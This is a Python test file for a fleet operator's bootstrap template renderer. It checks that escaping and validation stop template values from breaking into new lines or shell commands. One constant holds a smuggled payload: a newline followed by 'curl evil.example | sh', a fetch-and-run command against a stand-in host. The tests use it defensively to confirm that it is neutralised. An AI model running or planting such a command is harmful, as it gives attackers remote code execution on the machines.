"""No value can become a line or a command of its own in what a machine runs."""

import json
import shlex
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from bigfleet.edge.clock import ManualClock
from bigfleet.edge.counts import Counts
from bigfleet.edge.logs import NullLog
from bigfleet.model.requirements import Operator, Requirement
from bigfleet.model.session_frames import BootstrapRequest
from bigfleet.operator.bootstrap.renderer import ClusterFacts
from bigfleet.operator.bootstrap.templates import (
    BadTemplate,
    RequirementWords,
    Template,
    TemplateValues,
)
from bigfleet.operator.driving.bootstrap_requests import BootstrapRequests, TemplateFile

SHELL = "a3\ncurl evil.example | sh"
ALL = (
    "{{ .RequestID }} {{ range .Requirements }}{{ .Key }} {{ .Operator }} {{ .Values }} "
    '{{ join .Values "," }}{{ range .Values }} {{ . }}{{ end }}{{ end }}'
)


def printed(source: str, *values: str, key: str = "zone", request_id: str = "r-1") -> str:
    words = RequirementWords(key, "In", values)
    filled = TemplateValues(cluster_id="shop", request_id=request_id, requirements=(words,))
    return Template.parse(source).render(filled)


def test_a_value_with_a_line_of_shell_stays_within_its_line() -> None:
    assert printed("{{ range .Requirements }}# {{ .Values }}{{ end }}", SHELL) == (
        "# [a3_curl_evil.example___sh]"
    )


@given(st.text(max_size=20), st.text(max_size=20), st.text(max_size=20))
def test_text_of_a_shard_is_printed_without_control_characters(
    key: str, value: str, request_id: str
) -> None:
    text = printed(ALL, value, key=key, request_id=request_id)
    assert set(text) <= set(
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._/-[], "
    )


def test_what_is_label_syntax_is_printed_as_it_is() -> None:
    assert printed(ALL, "eu-1a", "m6i.large", key="topology.bigfleet/rack") == (
        "r-1 topology.bigfleet/rack In [eu-1a m6i.large] eu-1a,m6i.large eu-1a m6i.large"
    )


@pytest.mark.parametrize(
    "source",
    [
        "{{ range .Requirements }}{{ range .Values }}{{ quote . }}{{ end }}{{ end }}",
        "{{ range .Requirements }}{{ range .Values }}{{ . | quote }}{{ end }}{{ end }}",
        '{{ range .Requirements }}{{ join .Values "," | quote }}{{ end }}',
        '{{ range .Requirements }}{{ quote join .Values "," }}{{ end }}',
    ],
)
@given(value=st.text(max_size=20))
def test_quote_makes_one_text_of_yaml_and_json(source: str, value: str) -> None:
    text = printed(source, value)
    assert len(text.splitlines()) == 1
    assert json.loads(text) == value
    assert yaml.safe_load(printed(source, SHELL)) == SHELL


@given(st.text(max_size=20))
def test_shellquote_makes_one_word_of_a_shell(value: str) -> None:
    text = printed("{{ range .Requirements }}{{ shellquote .Key }}{{ end }}", key=value)
    assert len(text.splitlines()) == 1
    (word,) = shlex.split(text)
    assert word == "".join(c if c.isprintable() else "_" for c in value)


def test_the_operators_own_settings_keep_their_characters_on_one_line() -> None:
    filled = TemplateValues(cluster_id="shop", api_server="https://[::1]:6443\nx", ca_bundle="Q0E=")
    text = Template.parse("{{ .APIServer }} {{ .CABundle }}").render(filled)
    assert text == "https://[::1]:6443_x Q0E="


@pytest.mark.parametrize(
    "source",
    ["{{ quote }}", "{{ .ClusterID | }}", "{{ .ClusterID | upper }}", "{{ quote .Key .Key }}"],
)
def test_other_pipes_stop_the_operator_at_its_start(source: str) -> None:
    with pytest.raises(BadTemplate, match="quote and shellquote"):
        Template.parse(source)


@pytest.mark.parametrize(
    ("request_id", "requirement", "place"),
    [
        ("r-1", Requirement.of("type", Operator.IN, ["a3", SHELL]), "requirements[0].values[1]"),
        ("r-1", Requirement.of("a\nb", Operator.EXISTS), "requirements[0].key"),
        ("r\n1", Requirement.of("type", Operator.EXISTS), "bad id"),
    ],
)
async def test_a_shard_that_asks_for_such_a_machine_gets_an_error_and_no_blob(
    tmp_path: Path, request_id: str, requirement: Requirement, place: str
) -> None:
    file = tmp_path / "bootstrap.tmpl"
    file.write_text(ALL)
    facts, counts = ClusterFacts("shop", "https://api:6443", b""), Counts()
    log = NullLog()
    bootstrapping = BootstrapRequests(
        TemplateFile(str(file), log), facts, ManualClock(), log, counts
    )
    answer = await bootstrapping.answer(BootstrapRequest(request_id, "shop", (requirement,)))
    assert answer.user_data == b""
    assert place in answer.error
    assert answer.error.isprintable()
    assert counts.of("bootstrap_renders_total", outcome="error") == 1
